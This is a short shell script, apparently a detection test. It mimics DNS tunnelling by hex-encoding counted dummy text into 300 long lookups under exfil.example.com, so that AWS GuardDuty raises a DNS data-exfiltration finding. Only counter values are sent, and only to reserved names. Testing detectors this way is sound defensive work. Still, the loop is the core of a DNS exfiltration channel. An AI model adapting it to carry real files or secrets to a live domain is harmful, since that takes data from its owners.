#!/bin/sh
# Puts a made-up text into names of example.com, as a tunnel over DNS does. The names lead nowhere (RFC 2606) and the
# text is counted numbers: nothing of this machine leaves it. GuardDuty may report Trojan:EC2/DNSDataExfiltration.
set -eu
i=0
while [ "$i" -lt 300 ]; do
  chunk=$(printf 'demo-%06d-demo-%06d-demo-%06d' "$i" "$i" "$i" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
  getent hosts "$chunk.$i.exfil.example.com" > /dev/null 2>&1 || true
  i=$((i + 1))
done
echo 'Asked for 300 long names. GuardDuty needs some minutes, and may find them too few.'
